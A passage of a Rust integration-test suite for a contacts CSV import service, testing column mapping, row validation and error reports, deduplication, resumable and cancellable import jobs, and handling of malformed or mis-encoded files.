//! Contacts CSV import and export against a real server: uploads streamed
//! into chunks, imports as resumable jobs (column mapping, per-row
//! validation with an error report, dedupe and upsert, progress), bad files,
//! the do-not-call import, and the export (filters, formula injection, round
//! trip). The crash tests drive the real binary and kill it mid-import.

use std::collections::{BTreeMap, BTreeSet};

use reqwest::Method;
use sea_orm::{EntityTrait, PaginatorTrait};
use serde_json::{Value, json};
use switchboard::contacts::entity::{chunk, contact, upload};

use crate::both_backends;
use crate::helpers::*;

// ---- helpers ---------------------------------------------------------------

/// Uploads `bytes` as a file; returns the response.
async fn upload_raw(app: &TestApp, who: &Creds, name: &str, bytes: Vec<u8>) -> reqwest::Response {
    app.req(
        Method::POST,
        &format!("/api/v1/uploads?filename={name}"),
        who,
    )
    .header("Content-Type", "text/csv")
    .body(bytes)
    .send()
    .await
    .expect("request")
}

/// Uploads `bytes` and returns the upload id.
async fn upload(app: &TestApp, who: &Creds, bytes: impl Into<Vec<u8>>) -> String {
    let bytes = bytes.into();
    let len = bytes.len();
    let u = json_ok(upload_raw(app, who, "contacts.csv", bytes).await, 201).await;
    assert_eq!(u["size_bytes"], len as i64, "{u}");
    assert_eq!(u["filename"], "contacts.csv");
    u["id"].as_str().unwrap().to_owned()
}

/// Starts an import; returns the job id.
async fn start(app: &TestApp, who: &Creds, params: Value) -> String {
    let r = app.post("/api/v1/contacts/imports", who, &params).await;
    let j = json_ok(r, 202).await;
    assert_eq!(j["kind"], "contact_import", "{j}");
    j["id"].as_str().unwrap().to_owned()
}

/// Waits for a job to end; returns its final view.
async fn finished(app: &TestApp, who: &Creds, job: &str) -> Value {
    eventually(60, "the job to end", || async {
        let j = json_ok(app.get(&format!("/api/v1/jobs/{job}"), who).await, 200).await;
        ["succeeded", "failed", "cancelled"]
            .contains(&j["status"].as_str().unwrap())
            .then_some(j)
    })
    .await
}

/// Uploads `csv`, imports it with `params` (plus the upload id) and waits
/// for the job to succeed. Returns the job.
async fn import_ok(app: &TestApp, who: &Creds, csv: impl Into<Vec<u8>>, params: Value) -> Value {
    let j = import_any(app, who, csv, params).await;
    assert_eq!(j["status"], "succeeded", "{j}");
    j
}

async fn import_any(
    app: &TestApp,
    who: &Creds,
    csv: impl Into<Vec<u8>>,
    mut params: Value,
) -> Value {
    let id = upload(app, who, csv).await;
    params["upload_id"] = json!(id);
    let job = start(app, who, params).await;
    finished(app, who, &job).await
}

/// Every contact of the caller's tenant, in creation order.
async fn all_contacts(app: &TestApp, who: &Creds) -> Vec<Value> {
    let mut out = Vec::new();
    let mut cursor: Option<String> = None;
    loop {
        let path = match &cursor {
            Some(c) => format!("/api/v1/contacts?limit=200&cursor={c}"),
            None => "/api/v1/contacts?limit=200".into(),
        };
        let page = json_ok(app.get(&path, who).await, 200).await;
        out.extend(page["items"].as_array().unwrap().iter().cloned());
        match page["next_cursor"].as_str() {
            Some(c) => cursor = Some(c.to_owned()),
            None => return out,
        }
    }
}

/// Contacts that have an external id, by it.
async fn contacts_by_ext(app: &TestApp, who: &Creds) -> BTreeMap<String, Value> {
    let all: Vec<Value> = all_contacts(app, who)
        .await
        .into_iter()
        .filter(|c| c["external_id"].is_string())
        .collect();
    let n = all.len();
    let m: BTreeMap<String, Value> = all
        .into_iter()
        .map(|c| (c["external_id"].as_str().unwrap().to_owned(), c))
        .collect();
    assert_eq!(m.len(), n, "external ids are unique");
    m
}

/// The error report of an import, all pages.
async fn error_rows(app: &TestApp, who: &Creds, job: &str) -> Vec<Value> {
    let mut out = Vec::new();
    let mut cursor: Option<String> = None;
    loop {
        let path = match &cursor {
            Some(c) => format!("/api/v1/contacts/imports/{job}/errors?limit=200&cursor={c}"),
            None => format!("/api/v1/contacts/imports/{job}/errors?limit=200"),
        };
        let page = json_ok(app.get(&path, who).await, 200).await;
        out.extend(page["items"].as_array().unwrap().iter().cloned());
        match page["next_cursor"].as_str() {
            Some(c) => cursor = Some(c.to_owned()),
            None => return out,
        }
    }
}

/// The error report as CSV, parsed: (row, errors, original).
async fn error_csv(app: &TestApp, who: &Creds, job: &str) -> Vec<(String, String, String)> {
    let r = app
        .get(&format!("/api/v1/contacts/imports/{job}/errors.csv"), who)
        .await;
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["content-type"], "text/csv; charset=utf-8");
    let cd = r.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(
        cd.starts_with("attachment;") && cd.contains(&format!("import-{job}-errors.csv")),
        "{cd}"
    );
    let body = r.bytes().await.unwrap();
    let mut rdr = csv::ReaderBuilder::new().from_reader(&body[..]);
    assert_eq!(
        rdr.headers().unwrap().iter().collect::<Vec<_>>(),
        ["row", "errors", "original"]
    );
    rdr.records()
        .map(|r| {
            let r = r.unwrap();
            (r[0].to_owned(), r[1].to_owned(), r[2].to_owned())
        })
        .collect()
}

fn phones(c: &Value) -> Vec<&str> {
    c["phones"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["number"].as_str().unwrap())
        .collect()
}

fn strs(v: &Value) -> Vec<&str> {
    v.as_array()
        .unwrap()
        .iter()
        .map(|s| s.as_str().unwrap())
        .collect()
}

fn sorted_tags(c: &Value) -> Vec<String> {
    let mut t: Vec<String> = strs(&c["tags"]).into_iter().map(str::to_owned).collect();
    t.sort();
    t
}

async fn define_attr(app: &TestApp, who: &Creds, key: &str, kind: &str) {
    let r = app
        .post(
            "/api/v1/contact-attributes",
            who,
            &json!({"key": key, "kind": kind}),
        )
        .await;
    json_ok(r, 201).await;
}

async fn contact_count(app: &TestApp) -> u64 {
    contact::Entity::find()
        .count(&app.state.db.conn)
        .await
        .unwrap()
}

/// Asserts one error row: its number, a fragment of each reason, its raw row.
fn assert_error(e: &Value, row: i64, reasons: &[&str], raw: &str) {
    assert_eq!(e["row_number"], row, "{e}");
    let errs = strs(&e["errors"]);
    assert_eq!(errs.len(), reasons.len(), "row {row}: {errs:?}");
    for (got, want) in errs.iter().zip(reasons) {
        assert!(got.contains(want), "row {row}: {got:?} lacks {want:?}");
    }
    assert_eq!(e["raw"], raw, "row {row}");
}

// ---- mapping, validation, error report, progress -----------------------------

const MAPPED_CSV: &str = "Customer ID,Full Name,Mobile,Work Phone,E-mail,Labels,Plan,Spend,Renewal,SMS opt-in,Lang,TZ,Notes\n\
c1,Ada Lovelace,(201) 555-0123,+44 20 7946 0958,ADA@Example.org,vip; gold,Gold,12.5,2025-01-31,yes,en,Europe/London,first\n\
c2,Bob Stone,12345,,bob@,,,,,,,,bad phone and email\n\
c3,Cleo,,,,,,,,,,,name only\n\
c4,Dan Brown,201-555-0124,,,,,lots,,,,,bad number\n\
c5,Eve\n\
c6,Fay Wray,,,,,,,,,,,,,extra\n\
,,,,,,,,,,,,\n\
c7,Gus Grant,,,gus@example.com,,,,,,,Mars/Olympus,bad tz\n\
\n\
c8,\"Hal \"\"The Hammer\"\" Jones\",+1 201 555 0125,,,\"a,b\",,,,no,,,quoted\n";

fn full_mapping() -> Value {
    json!({
        "external_id": "Customer ID",
        "name": "Full Name",
        "phone": "Mobile",
        "phone_2": "Work Phone",
        "email": "E-mail",
        "tags": "Labels",
        "attributes.plan": "Plan",
        "attributes.spend": "Spend",
        "attributes.renewal": "Renewal",
        "consent.sms": "SMS opt-in",
        "language": "Lang",
        "timezone": "TZ",
    })
}

both_backends! {
    async fn an_import_maps_columns_validates_rows_and_reports_errors(app) {
        let who = app.login("marketer").await;
        define_attr(&app, &who, "plan", "string").await;
        define_attr(&app, &who, "spend", "number").await;
        define_attr(&app, &who, "renewal", "date").await;
        let list = json_ok(app.post("/api/v1/lists", &who, &json!({"name": "Imported"})).await, 201).await;
        let list_id = list["id"].as_str().unwrap().to_owned();

        let up = upload(&app, &who, MAPPED_CSV).await;
        let got = json_ok(app.get(&format!("/api/v1/uploads/{up}"), &who).await, 200).await;
        assert_eq!(got["size_bytes"], MAPPED_CSV.len() as i64);
        let digest = ring::digest::digest(&ring::digest::SHA256, MAPPED_CSV.as_bytes());
        assert_eq!(got["sha256"], hex::encode(digest));
        assert_eq!(got["content_type"], "text/csv");

        let job = start(&app, &who, json!({
            "upload_id": up, "mapping": full_mapping(), "list_id": list_id,
        })).await;
        let j = finished(&app, &who, &job).await;
        assert_eq!(j["status"], "succeeded", "{j}");
        // Nine data rows: the blank line is not a row.
        assert_eq!(j["progress_total"], 9);
        assert_eq!(j["progress_done"], 9);
        assert_eq!(j["progress_failed"], 6);
        assert_eq!(j["percent"], 100.0);
        assert_eq!(j["result"], json!({"rows": 9, "created": 3, "updated": 0, "failed": 6}));

        let c = contacts_by_ext(&app, &who).await;
        assert_eq!(c.keys().collect::<Vec<_>>(), ["c1", "c3", "c8"]);
        let ada = &c["c1"];
        assert_eq!((ada["first_name"].as_str(), ada["last_name"].as_str()), (Some("Ada"), Some("Lovelace")));
        assert_eq!(phones(ada), ["+12015550123", "+442079460958"]);
        assert_eq!(strs(&ada["emails"]), ["ada@example.org"]);
        assert_eq!(sorted_tags(ada), ["gold", "vip"]);
        assert_eq!(ada["attributes"], json!({"plan": "Gold", "spend": 12.5, "renewal": "2025-01-31T00:00:00+00:00"}));
        assert_eq!(ada["language"], "en");
        assert_eq!(ada["timezone"], "Europe/London");
        assert_eq!(ada["timezone_source"], "explicit");
        assert_eq!(ada["consent"]["sms"]["status"], "opted_in");
        assert_eq!(ada["consent"]["sms"]["source"], "import");
        assert!(ada["consent"].get("voice").is_none(), "{ada}");
        // Imported consent is part of the consent history too.
        let ada_id = ada["id"].as_str().unwrap();
        let hist = json_ok(app.get(&format!("/api/v1/contacts/{ada_id}/consent-history"), &who).await, 200).await;
        assert_eq!(hist.as_array().unwrap().len(), 1, "{hist}");
        assert_eq!(hist[0]["status"], "opted_in");
        assert_eq!(hist[0]["channel"], "sms");
        assert_eq!(hist[0]["source"], "import");

        let cleo = &c["c3"];
        assert_eq!((cleo["first_name"].as_str(), cleo["last_name"].as_str()), (Some("Cleo"), Some("")));
        assert!(phones(cleo).is_empty() && strs(&cleo["emails"]).is_empty() && strs(&cleo["tags"]).is_empty());
        assert_eq!(cleo["attributes"], json!({}));
        assert_eq!(cleo["consent"], json!({}));
        assert!(cleo["timezone"].is_null());

        let hal = &c["c8"];
        assert_eq!(hal["first_name"], "Hal \"The Hammer\"");
        assert_eq!(hal["last_name"], "Jones");
        assert_eq!(phones(hal), ["+12015550125"]);
        assert_eq!(strs(&hal["tags"]), ["a,b"], "the tag separator is ';'");
        assert_eq!(hal["consent"]["sms"]["status"], "opted_out");

        // Every imported contact joined the list.
        let l = json_ok(app.get(&format!("/api/v1/contacts/count?list_id={list_id}"), &who).await, 200).await;
        assert_eq!(l["count"], 3);

        let errs = error_rows(&app, &who, &job).await;
        assert_eq!(errs.len(), 6, "{errs:#?}");
        assert_error(&errs[0], 2, &["phone: \"12345\"", "email: \"bob@\""], "c2,Bob Stone,12345,,bob@,,,,,,,,bad phone and email");
        assert_error(&errs[1], 4, &["attributes.spend: \"lots\" is not a number"], "c4,Dan Brown,201-555-0124,,,,,lots,,,,,bad number");
        assert_error(&errs[2], 5, &["the row has 2 fields, the header has 13"], "c5,Eve");
        assert_error(&errs[3], 6, &["the row has 15 fields, the header has 13"], "c6,Fay Wray,,,,,,,,,,,,,extra");
        assert_error(&errs[4], 7, &["the row has no name, phone, email or external id"], ",,,,,,,,,,,,");
        assert_error(&errs[5], 8, &["timezone: \"Mars/Olympus\" is not an IANA time zone"], "c7,Gus Grant,,,gus@example.com,,,,,,,Mars/Olympus,bad tz");

        // The same report as CSV.
        let rows = error_csv(&app, &who, &job).await;
        let want: Vec<(String, String, String)> = errs.iter().map(|e| (
            e["row_number"].to_string(),
            strs(&e["errors"]).join("; "),
            e["raw"].as_str().unwrap().to_owned(),
        )).collect();
        assert_eq!(rows, want);

        // Paging through the report by cursor gives each row once.
        let p1 = json_ok(app.get(&format!("/api/v1/contacts/imports/{job}/errors?limit=4"), &who).await, 200).await;
        assert_eq!(p1["items"].as_array().unwrap().len(), 4);
        let cur = p1["next_cursor"].as_str().unwrap();
        let p2 = json_ok(app.get(&format!("/api/v1/contacts/imports/{job}/errors?limit=4&cursor={cur}"), &who).await, 200).await;
        let nums: Vec<i64> = p2["items"].as_array().unwrap().iter().map(|e| e["row_number"].as_i64().unwrap()).collect();
        assert_eq!(nums, [7, 8]);
        assert!(p2["next_cursor"].is_null());
    }
}

both_backends! {
    async fn the_preview_and_suggested_mapping_read_the_header(app) {
        let who = app.login("admin").await;
        define_attr(&app, &who, "plan", "string").await;
        // A byte-order mark, CRLF and LF mixed, headers in people's words.
        let csv = "\u{feff}Customer ID,First Name,Surname,Mobile,E-mail,Plan,Notes\r\n\
            k1,Ada,Lovelace,2015550123,ada@example.org,gold,x\n\
            k2,Bob,Stone,2015550124,bob@example.org,silver,y\r\n\
            k3,Cleo,Patra,,cleo@example.org,,z";
        let up = upload(&app, &who, csv).await;
        let p = json_ok(app.get(&format!("/api/v1/uploads/{up}/preview"), &who).await, 200).await;
        assert_eq!(strs(&p["headers"]), ["Customer ID", "First Name", "Surname", "Mobile", "E-mail", "Plan", "Notes"]);
        assert_eq!(p["rows"].as_array().unwrap().len(), 3);
        assert_eq!(strs(&p["rows"][2]), ["k3", "Cleo", "Patra", "", "cleo@example.org", "", "z"]);
        assert_eq!(p["suggested_mapping"], json!({
            "external_id": "Customer ID", "first_name": "First Name", "last_name": "Surname",
            "phone": "Mobile", "email": "E-mail", "attributes.plan": "Plan",
        }));
        assert!(strs(&p["fields"]).contains(&"attributes.plan"));
        assert_eq!(p["encoding"], "utf8");
        // No mapping given: the suggested one is used, and the BOM does not
        // hide the first header.
        let job = start(&app, &who, json!({"upload_id": up})).await;
        let j = finished(&app, &who, &job).await;
        assert_eq!(j["result"], json!({"rows": 3, "created": 3, "updated": 0, "failed": 0}), "{j}");
        let c = contacts_by_ext(&app, &who).await;
        assert_eq!(c.keys().collect::<Vec<_>>(), ["k1", "k2", "k3"]);
        assert_eq!(phones(&c["k1"]), ["+12015550123"]);
        assert_eq!(c["k2"]["attributes"], json!({"plan": "silver"}));
        assert_eq!(c["k3"]["last_name"], "Patra");
        assert_eq!(c["k3"]["attributes"], json!({}));
    }
}

// ---- dedupe and upsert ---------------------------------------------------------

const FIRST_LOAD: &str = "external_id,first_name,last_name,phone,email,tags,plan\n\
a1,Ada,Lovelace,2015550101,ada@example.org,vip,basic\n\
a2,Bob,Stone,2015550102,,,\n\
a3,Cleo,Patra,,cleo@example.org,,\n";

/// Matched by external id, by phone (any format), by email (any case); a
/// contact twice in one batch, and across two batches (chunk size 3).
const SECOND_LOAD: &str = "external_id,first_name,last_name,phone,email,tags,plan\n\
a1,,King,+1 201 555 0199,,VIP;new,gold\n\
,Bobby,,(201) 555-0102,bob@example.org,,\n\
,,,,CLEO@Example.org,,platinum\n\
a4,Dan,Brown,2015550104,,,\n\
a4,Daniel,,,dan@example.org,,\n\
a5,Eve,Adams,,,one,\n\
a5,Evelyn,,,,two,\n";

/// Contacts without the fields that change on every write.
fn stable(c: &BTreeMap<String, Value>) -> BTreeMap<String, Value> {
    c.iter()
        .map(|(k, v)| {
            let mut v = v.clone();
            v.as_object_mut().unwrap().remove("updated_at");
            (k.clone(), v)
        })
        .collect()
}

both_backends! {
    async fn reimporting_updates_and_never_duplicates(app) configure(|s: &mut switchboard::config::Settings| s.jobs.chunk_size = 3) {
        let who = app.login("admin").await;
        define_attr(&app, &who, "plan", "string").await;
        let j = import_ok(&app, &who, FIRST_LOAD, json!({})).await;
        assert_eq!(j["result"], json!({"rows": 3, "created": 3, "updated": 0, "failed": 0}));
        let before = contacts_by_ext(&app, &who).await;

        let j = import_ok(&app, &who, SECOND_LOAD, json!({})).await;
        assert_eq!(j["result"], json!({"rows": 7, "created": 2, "updated": 5, "failed": 0}), "{j}");
        let c = contacts_by_ext(&app, &who).await;
        assert_eq!(c.keys().collect::<Vec<_>>(), ["a1", "a2", "a3", "a4", "a5"]);
        for k in ["a1", "a2", "a3"] {
            assert_eq!(c[k]["id"], before[k]["id"], "{k} was updated in place");
            assert_eq!(c[k]["created_at"], before[k]["created_at"]);
        }
        let a1 = &c["a1"];
        assert_eq!((a1["first_name"].as_str(), a1["last_name"].as_str()), (Some("Ada"), Some("King")), "an empty cell keeps the value");
        assert_eq!(phones(a1), ["+12015550101", "+12015550199"]);
        assert_eq!(strs(&a1["emails"]), ["ada@example.org"]);
        assert_eq!(sorted_tags(a1), ["new", "vip"], "tags are added, case-insensitively once");
        assert_eq!(a1["attributes"], json!({"plan": "gold"}));
        let a2 = &c["a2"];
        assert_eq!((a2["first_name"].as_str(), a2["last_name"].as_str()), (Some("Bobby"), Some("Stone")));
        assert_eq!(phones(a2), ["+12015550102"]);
        assert_eq!(strs(&a2["emails"]), ["bob@example.org"]);
        let a3 = &c["a3"];
        assert_eq!(strs(&a3["emails"]), ["cleo@example.org"]);
        assert_eq!(a3["attributes"], json!({"plan": "platinum"}));
        // Later rows win, whether in the same batch (a4) or the next (a5).
        let a4 = &c["a4"];
        assert_eq!((a4["first_name"].as_str(), a4["last_name"].as_str()), (Some("Daniel"), Some("Brown")));
        assert_eq!(phones(a4), ["+12015550104"]);
        assert_eq!(strs(&a4["emails"]), ["dan@example.org"]);
        let a5 = &c["a5"];
        assert_eq!((a5["first_name"].as_str(), a5["last_name"].as_str()), (Some("Evelyn"), Some("Adams")));
        assert_eq!(sorted_tags(a5), ["one", "two"]);

        // The same file again changes nothing and adds nobody.
        let j = import_ok(&app, &who, SECOND_LOAD, json!({})).await;
        assert_eq!(j["result"], json!({"rows": 7, "created": 0, "updated": 7, "failed": 0}));
        assert_eq!(stable(&contacts_by_ext(&app, &who).await), stable(&c));
        assert_eq!(contact_count(&app).await, 5);
    }
}

both_backends! {
    async fn dedupe_keys_are_chosen_and_external_ids_stay_unique(app) {
        let who = app.login("admin").await;
        define_attr(&app, &who, "plan", "string").await;
        import_ok(&app, &who, FIRST_LOAD, json!({})).await;
        assert_eq!(contact_count(&app).await, 3);
        // Email only: a1's phone does not make Zed a1.
        let j = import_ok(&app, &who, "first_name,phone,email\nZed,2015550101,zed@example.org\n",
            json!({"dedupe_by": ["email"]})).await;
        assert_eq!(j["result"]["created"], 1, "{j}");
        let all = all_contacts(&app, &who).await;
        let zed = all.iter().find(|c| c["first_name"] == "Zed").unwrap();
        assert_eq!(phones(zed), ["+12015550101"]);
        assert!(zed["external_id"].is_null());

        // Phone only: a row whose external id belongs to another contact
        // than its phone's (or to none of the phone's) fails alone.
        let csv = "external_id,first_name,phone\n\
            a2,Xavier,2015550177\n\
            a9,Nine,2015550102\n\
            a1,Ada,2015550101\n\
            n1,New,2015550188\n\
            n1,Again,2015550189\n";
        let j = import_any(&app, &who, csv, json!({"dedupe_by": ["phone"]})).await;
        assert_eq!(j["status"], "succeeded", "{j}");
        assert_eq!(j["result"], json!({"rows": 5, "created": 1, "updated": 1, "failed": 3}), "{j}");
        let errs = error_rows(&app, &who, j["id"].as_str().unwrap()).await;
        assert_eq!(errs.len(), 3, "{errs:#?}");
        assert_error(&errs[0], 1, &["external_id \"a2\" belongs to another contact"], "a2,Xavier,2015550177");
        assert_error(&errs[1], 2, &["external_id \"a9\" differs from the matched contact's (\"a2\")"], "a9,Nine,2015550102");
        assert_error(&errs[2], 5, &["external_id \"n1\" belongs to another contact"], "n1,Again,2015550189");
        let c = contacts_by_ext(&app, &who).await;
        assert_eq!(c.keys().collect::<Vec<_>>(), ["a1", "a2", "a3", "n1"]);
        assert_eq!(c["a2"]["first_name"], "Bob");
        assert_eq!(phones(&c["n1"]), ["+12015550188"]);
        assert_eq!(contact_count(&app).await, 5);

        // By default external ids come first: a new external id with a2's
        // phone is another person sharing it (a household line); a row
        // without an external id still finds a2 by phone.
        let j = import_ok(&app, &who, "external_id,first_name,phone
h1,Hank,(201) 555-0102
,Bobby,2015550102
", json!({})).await;
        assert_eq!(j["result"], json!({"rows": 2, "created": 1, "updated": 1, "failed": 0}), "{j}");
        let c = contacts_by_ext(&app, &who).await;
        assert_eq!(phones(&c["h1"]), ["+12015550102"]);
        assert_eq!(c["h1"]["first_name"], "Hank");
        assert_eq!(c["a2"]["first_name"], "Bobby");
        // A contact without an external id takes the one of the row that
        // matched it.
        let j = import_ok(&app, &who, "external_id,email
z9,ZED@example.org
", json!({})).await;
        assert_eq!(j["result"], json!({"rows": 1, "created": 0, "updated": 1, "failed": 0}), "{j}");
        let c = contacts_by_ext(&app, &who).await;
        assert_eq!(c["z9"]["first_name"], "Zed");
        assert_eq!(contact_count(&app).await, 6);
    }
}

both_backends! {
    async fn a_cancelled_import_stops_at_a_checkpoint(app) configure(|s: &mut switchboard::config::Settings| { s.jobs.chunk_size = 100; s.jobs.lease_secs = 2; }) {
        let who = app.login("marketer").await;
        let mut csv = String::from("external_id,name,email\n");
        // Large enough that it cannot finish before the cancellation lands
        // (the heartbeat notices it within a quarter of the lease).
        for i in 0..150_000 {
            let email = if i % 50 == 7 { "nope".to_owned() } else { format!("c{i}@example.org") };
            csv.push_str(&format!("c{i},Name {i},{email}\n"));
        }
        let id = upload(&app, &who, csv).await;
        let job = start(&app, &who, json!({"upload_id": id})).await;
        eventually(30, "the import to be under way", || async {
            let j = json_ok(app.get(&format!("/api/v1/jobs/{job}"), &who).await, 200).await;
            assert!(j["status"] == "running" || j["status"] == "queued", "{j}");
            (j["progress_done"].as_i64().unwrap() >= 300).then_some(())
        }).await;
        // The marketer who started it may cancel it.
        let j = json_ok(app.post(&format!("/api/v1/jobs/{job}/cancel"), &who, &json!({})).await, 202).await;
        assert_eq!(j["cancel_requested"], true);
        let j = finished(&app, &who, &job).await;
        assert_eq!(j["status"], "cancelled", "{j}");
        let done = j["progress_done"].as_i64().unwrap();
        assert!(done < 150_000, "stopped before the end: {j}");
        assert_eq!(done % 100, 0, "at a batch boundary: {done}");
        // What was written is exactly what the checkpoint counts.
        let failed = (0..done).filter(|i| i % 50 == 7).count() as i64;
        assert_eq!(j["progress_failed"], failed);
        assert_eq!(contact_count(&app).await as i64, done - failed);
        let errs = error_rows(&app, &who, &job).await;
        let nums: Vec<i64> = errs.iter().map(|e| e["row_number"].as_i64().unwrap()).collect();
        let want: Vec<i64> = (0..done).filter(|i| i % 50 == 7).map(|i| i + 1).collect();
        assert_eq!(nums, want);
        // Cancelled means cancelled: nothing more arrives.
        tokio::time::sleep(std::time::Duration::from_millis(1500)).await;
        assert_eq!(contact_count(&app).await as i64, done - failed);
    }
}

both_backends! {
    async fn a_run_that_loses_its_lease_writes_nothing_more(app) configure(|s: &mut switchboard::config::Settings| { s.jobs.chunk_size = 100; s.jobs.lease_secs = 2; s.jobs.sweep_interval_secs = 1; }) {
        use sea_orm::{ColumnTrait, EntityTrait, QueryFilter, sea_query::Expr};
        use switchboard::jobs::job;
        let who = app.login("marketer").await;
        let mut csv = String::from("external_id,name,email\n");
        for i in 0..20_000 {
            csv.push_str(&format!("c{i},Name {i},c{i}@example.org\n"));
        }
        let id = upload(&app, &who, csv).await;
        let job_id = start(&app, &who, json!({"upload_id": id})).await;
        eventually(30, "the import to be under way", || async {
            let j = json_ok(app.get(&format!("/api/v1/jobs/{job_id}"), &who).await, 200).await;
            (j["progress_done"].as_i64().unwrap() >= 200).then_some(())
        }).await;
        // Another run takes the lease, as after a stall that outlived it (its
        // holder then vanishes, and its lease runs out in 2 s).
        let uuid: uuid::Uuid = job_id.parse().unwrap();
        let r = job::Entity::update_many()
            .col_expr(job::Column::LeaseOwner, Expr::value(Some("thief/1".to_owned())))
            .col_expr(job::Column::LeaseUntil, Expr::value(Some(chrono::Utc::now() + chrono::Duration::seconds(2))))
            .filter(job::Column::Id.eq(uuid))
            .filter(job::Column::Status.eq("running"))
            .exec(&app.state.db.conn)
            .await
            .unwrap();
        assert_eq!(r.rows_affected, 1, "the job was still running");
        // While the other run holds the lease, nothing more is written (a
        // batch already committing may land; wait for it first).
        tokio::time::sleep(std::time::Duration::from_millis(500)).await;
        let frozen = contact_count(&app).await;
        tokio::time::sleep(std::time::Duration::from_millis(1000)).await;
        assert_eq!(contact_count(&app).await, frozen, "the run without the lease kept writing");
        assert!(frozen < 20_000, "the import was still under way: {frozen}");
        // The first run's next batch cannot commit; the job resumes from the
        // last checkpoint once the thief's lease runs out, and ends with
        // every row exactly once.
        let j = finished(&app, &who, &job_id).await;
        assert_eq!(j["status"], "succeeded", "{j}");
        assert_eq!(j["result"], json!({"rows": 20_000, "created": 20_000, "updated": 0, "failed": 0}), "{j}");
        assert_eq!(contact_count(&app).await, 20_000);
        assert!(j["attempts"].as_i64().unwrap() >= 2, "claimed again: {j}");
    }
}

// ---- bad input -----------------------------------------------------------------

both_backends! {
    async fn broken_rows_fail_alone_and_the_rest_imports(app) {
        let who = app.login("marketer").await;

        // Unbalanced quotes: one swallows a line break and closes later; one
        // never closes and runs to the end of the file.
        let csv = "external_id,name,phone\nq1,Ann,2015550111\nq2,\"Ben,2015550112\nq3,Cal\",2015550113\nq4,Dee,2015550114\nq5,\"Eve,2015550115\n";
        let j = import_ok(&app, &who, csv, json!({})).await;
        assert_eq!(j["result"], json!({"rows": 4, "created": 2, "updated": 0, "failed": 2}), "{j}");
        let errs = error_rows(&app, &who, j["id"].as_str().unwrap()).await;
        assert_eq!(errs.len(), 2);
        assert_error(&errs[0], 2, &["name: contains a line break (is a closing quote missing?)"], "q2,\"Ben,2015550112\nq3,Cal\",2015550113");
        assert_error(&errs[1], 4, &["the row has 2 fields, the header has 3 (a quoted field spans several lines: is a closing quote missing?)"], "q5,\"Eve,2015550115\n\"");
        assert_eq!(contacts_by_ext(&app, &who).await.keys().collect::<Vec<_>>(), ["q1", "q4"]);

        // Latin-1 bytes in a UTF-8 import: that row fails with a hint; the
        // same file imported as latin1 is transcoded.
        let latin1: &[u8] = b"external_id,name,email\nl1,Jos\xe9 Garc\xeda,jose@example.org\nl2,Ann Smith,ann@example.org\n";
        let j = import_ok(&app, &who, latin1, json!({})).await;
        assert_eq!(j["result"], json!({"rows": 2, "created": 1, "updated": 0, "failed": 1}), "{j}");
        let errs = error_rows(&app, &who, j["id"].as_str().unwrap()).await;
        assert_error(&errs[0], 1, &["name: not valid UTF-8 (for a Latin-1 file, set encoding to latin1)"], "l1,Jos\u{fffd} Garc\u{fffd}a,jose@example.org");
        let j = import_ok(&app, &who, latin1, json!({"encoding": "latin1"})).await;
        assert_eq!(j["result"], json!({"rows": 2, "created": 1, "updated": 1, "failed": 0}), "{j}");
        let c = contacts_by_ext(&app, &who).await;
        assert_eq!((c["l1"]["first_name"].as_str(), c["l1"]["last_name"].as_str()), (Some("José"), Some("García")));
        // A Latin-1 header: the preview shows it decoded and says so; a
        // UTF-8 import of it is refused at once with the hint.
        let id = upload(&app, &who, b"external_id,Pr\xe9nom\nl3,Zo\xe9\n".to_vec()).await;
        let p = json_ok(app.get(&format!("/api/v1/uploads/{id}/preview"), &who).await, 200).await;
        assert_eq!(p["encoding"], "latin1");
        assert_eq!(strs(&p["headers"]), ["external_id", "Prénom"]);
        assert_eq!(p["rows"], json!([["l3", "Zoé"]]));
        let mapping = json!({"external_id": "external_id", "first_name": "Prénom"});
        let body = expect_error(app.post("/api/v1/contacts/imports", &who, &json!({"upload_id": id, "mapping": mapping})).await, 422, "validation_failed").await;
        assert_eq!(body["error"]["details"]["fields"][0]["path"], "upload");
        assert!(body["error"]["message"].as_str().unwrap().contains("set encoding to latin1"), "{body}");
        let job = start(&app, &who, json!({"upload_id": id, "mapping": mapping, "encoding": "latin1"})).await;
        assert_eq!(finished(&app, &who, &job).await["result"]["created"], 1);
        assert_eq!(contacts_by_ext(&app, &who).await["l3"]["first_name"], "Zoé");

        // A 10 MB line: longer than a row may be; the rows around it import.
        let mut big = b"external_id,name,phone\nb1,Ann,2015550121\nb2,".to_vec();
        big.extend(std::iter::repeat_n(b'x', 10 * 1024 * 1024));
        big.extend_from_slice(b",2015550122\nb3,Cal,2015550123\n");
        let j = import_ok(&app, &who, big, json!({})).await;
        assert_eq!(j["result"], json!({"rows": 3, "created": 2, "updated": 0, "failed": 1}), "{j}");
        let errs = error_rows(&app, &who, j["id"].as_str().unwrap()).await;
        assert_eq!(errs[0]["row_number"], 2);
        assert_eq!(strs(&errs[0]["errors"]), ["the row is longer than 1048576 bytes"]);
        let raw = errs[0]["raw"].as_str().unwrap();
        assert!(raw.starts_with("b2,xxxx") && raw.ends_with('…') && raw.chars().count() <= 2001, "{}", &raw[..40]);
        let c = contacts_by_ext(&app, &who).await;
        assert!(c.contains_key("b1") && c.contains_key("b3") && !c.contains_key("b2"));
        assert_eq!(phones(&c["b3"]), ["+12015550123"]);

        // Phones and emails that are not.
        let csv = "external_id,phone,email\n\
            p1,+1 555,\n\
            p2,call me,\n\
            p3,+999 1234567,\n\
            p4,20155501234567890123456789012345678901234,\n\
            p5,,a@b@c\n\
            p6,,x y@z.com\n\
            p7,+44 20 7946 0958,OK@Example.COM\n\
            p8,201.555.0188,\n";
        let j = import_ok(&app, &who, csv, json!({})).await;
        assert_eq!(j["result"], json!({"rows": 8, "created": 2, "updated": 0, "failed": 6}), "{j}");
        let errs = error_rows(&app, &who, j["id"].as_str().unwrap()).await;
        let got: Vec<(i64, Vec<&str>)> = errs.iter().map(|e| (e["row_number"].as_i64().unwrap(), strs(&e["errors"]))).collect();
        assert_eq!(got, [
            (1, vec!["phone: \"+1 555\" is not a valid phone number for its region"]),
            (2, vec!["phone: \"call me\" is not a phone number"]),
            (3, vec!["phone: \"+999 1234567\" is not a phone number"]),
            (4, vec!["phone: \"20155501234567890123456789012345678901234\" is too long"]),
            (5, vec!["email: \"a@b@c\" is not a valid email address"]),
            (6, vec!["email: \"x y@z.com\" is not a valid email address"]),
        ]);
